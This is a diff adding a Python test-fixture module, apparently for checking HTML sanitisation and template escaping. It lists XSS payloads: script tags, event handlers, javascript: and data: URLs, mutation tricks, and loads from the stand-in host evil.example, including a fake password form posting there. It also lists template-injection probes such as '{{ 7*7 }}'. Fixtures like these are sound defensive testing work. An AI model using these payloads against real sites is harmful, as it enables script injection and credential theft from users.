@@ -1,0 +1,42 @@
+"""Texts that try to become something else: markup that runs, and the languages of template engines."""
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png' alt='x'>",
+    "<img src='data:image/svg+xml;base64,PHN2Zy8+' alt='x'>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='https://evil.example/x.swf'></object>",
+    "<embed src='https://evil.example/x.swf'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style='background:url(https://evil.example/)'>texte</p>",
+    "<p onclick=alert(1)>texte</p>",
+    "<p onmouseover='alert(1)' class='btn'>texte</p>",
+    "<a href='javascript:alert(1)'>lien</a>",
+    "<a href='java&#115;cript:alert(1)'>lien</a>",
+    "<a href=' \x01javascript:alert(1)'>lien</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>lien</a>",
+    "<a href='vbscript:msgbox(1)'>lien</a>",
+    "<form action='https://evil.example/'><input name=password><button>OK</button></form>",
+    "<body onload=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<video><source onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<p hx-get='/c/x/' hx-trigger='load'>texte</p>",
+    "<p data-needs-script hidden id='contenu'>texte</p>",
+    "</textarea><script>alert(1)</script>",
+    "</article></main><script>alert(1)</script>",
+]
+
+#: Shown as they were typed, whatever program prints them.
+TEMPLATES = ["{{ 7*7 }}", "{% load i18n %}", "${7*7}", "#{7*7}", "\\input{x}"]
